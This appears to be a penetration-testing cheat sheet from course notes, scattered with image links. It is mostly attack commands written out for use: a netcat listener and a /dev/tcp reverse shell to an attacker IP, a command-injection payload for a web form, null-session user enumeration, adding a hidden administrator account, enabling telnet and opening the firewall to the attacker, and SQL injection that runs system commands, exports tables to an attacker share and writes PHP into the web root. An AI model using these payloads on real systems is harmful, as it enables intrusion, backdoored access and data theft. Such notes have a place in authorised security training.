GnuPG keys

You will determine the passphrase for the given user from other aspects of the environment.
Remember users manually synchronize their passwords.

Where are they stored??

On Windows:

c:\Documents and Settings\[UserName]\Application Data\gnupg\pubring.gpg
c:\Documents and Settings\[UserName]\Application Data\gnupg\secring.gpg

On Linux:


Verifying the Keys

gpg --list-keys
gpg --list-secret-keys

Decrypting a File Using GnuPGgpg -d -o <OutputFileName><EncryptedFileName>


tcpdump-nnp host <ipaddress>  and <icmp|tcp>


See handout

Netcat-Style Shell Access without Access (Linux)

On attacker machine:

nc -l -v -l - [port]

#/bin/bash -i > /dev/tcp/<attackerIP>/<port> 0<&1

In your browser, on the affected server:

test; /bin/bash -i > /dev/tcp/<attackerIP>/<port> 0<&1 2>&1; echo hello

Commandline Tips



Null Session

net user \\<targetIP> "" /u:""Get Users

To get users:
enum -U <targetIP>
To get groups:
enum -G <targetIP>

Add user via commandline

net user <username> <password> /add
net localgroup administrators <username> /add

List/Kill processes


SC Commands

Check if telnet is running?

sc query tlntsvr

Change startup type to demand (manuallystarted)

sc config tlntsvr start= demand

Start Telnet server (or RDP Day 3, pg115)

sc start tlntsvr

Add user to TelnetClients if needed

net localgroup TelnetClients /add
net localgroup TelnetClients <username> /add

Poke a hole in the firewall

netsh firewall add portopening protocol = TCP port = 23 name = telnet mode = enable scope = custom address = <attackerIP>


Enabling telnetd (D3p128) SSHD (D3,p129)

Getting terminal access around a firewall, using netcat to forward SSH to another port:
D3, p136SQL Injection

MS SQL Server

exec master..xp_cmdshell'ping <attackerIP>'--

Export Data to Attacker Machine
exec master..sp_makewebtask \\<attackerIP>\share\results.html, "select * from information_schema.tables"


and 1=0 union select '[PHP CODE]' INTO OUTFILE'/var/www/html/mycode.php'

PHP backdoor for MySQL on laptop, can be insertedinto [PHP CODE]
Unless otherwise stated, the content of this page is licensed under Creative Commons Attribution-Share Alike 2.5 License.